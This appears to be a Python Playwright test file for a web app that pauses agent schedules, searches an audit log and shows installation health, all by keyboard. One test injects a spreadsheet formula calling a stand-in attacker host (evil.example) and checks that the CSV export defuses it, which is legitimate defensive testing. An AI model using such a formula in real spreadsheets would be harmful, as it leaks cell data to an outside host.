"""Schedules, the audit and the state of the installation, in a browser and by keyboard alone."""

import csv
import io
import re
from pathlib import Path

import pytest
from playwright.async_api import expect

from outlast.client.identity import person
from outlast.client.schedules import Schedules, Times
from tests.browser.stage import Stage
from tests.browser.window import Windows

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.mark.timeout(90)
async def test_a_schedule_is_paused_and_resumed_by_keyboard(stage: Stage, windows: Windows) -> None:
    schedules = Schedules(stage.client)
    await schedules.create("weekly", "Sum up.", Times(cron="0 9 * * MON"), agent="Writer")
    page = await windows.open()
    await page.goto(f"{stage.url()}/inbox")
    await page.keyboard.press("g")
    await page.keyboard.press("d")
    await expect(page).to_have_url(re.compile("/schedules$"))
    await page.get_by_role("button", name="Pause weekly").press("Enter")
    await expect(page.get_by_role("status")).to_contain_text("It is paused")
    assert (await schedules.get("weekly")).note == "paused by ann"
    await page.get_by_role("button", name="Resume weekly").press("Enter")
    await expect(page.get_by_role("status")).to_contain_text("It is active again")
    assert (await schedules.get("weekly")).status == "active"
    await schedules.delete("weekly")


@pytest.mark.timeout(90)
async def test_the_audit_finds_what_a_person_said_and_its_table_calculates_nothing(
    stage: Stage, windows: Windows
) -> None:
    run = await stage.start_run("Writer", "say Hello!", "audited")
    await run.wait_for_answer("start")
    await run.hold(by=person("lee", groups=["leads"]))
    await run.say(FORMULA, by=person("lee", groups=["leads"]))
    page = await windows.open(accept_downloads=True)
    await page.goto(f"{stage.url()}/inbox")
    await page.keyboard.press("g")
    await page.keyboard.press("u")
    await page.get_by_role("textbox", name="Conversation").fill("audited")
    await page.get_by_label("Person").fill("LEE")
    await page.get_by_label("Person").press("Enter")
    await expect(page.locator("tbody tr")).to_have_count(2)
    await expect(page.locator("tbody")).to_contain_text(FORMULA)
    async with page.expect_download() as found:
        await page.get_by_role("link", name="CSV").press("Enter")
    text = Path(await (await found.value).path()).read_text("utf-8")  # noqa: ASYNC240
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(one["event"], one["text"]) for one in rows] == [("held", ""), ("said", f"'{FORMULA}")]


@pytest.mark.timeout(90)
async def test_the_navigation_says_how_the_installation_is(stage: Stage, windows: Windows) -> None:
    page = await windows.open()
    await page.goto(f"{stage.url()}/agents")
    strip = page.locator("#health a")
    await expect(strip).to_contain_text("All well")
    await strip.press("Enter")
    await expect(page.locator(".system")).to_contain_text("1 worker")
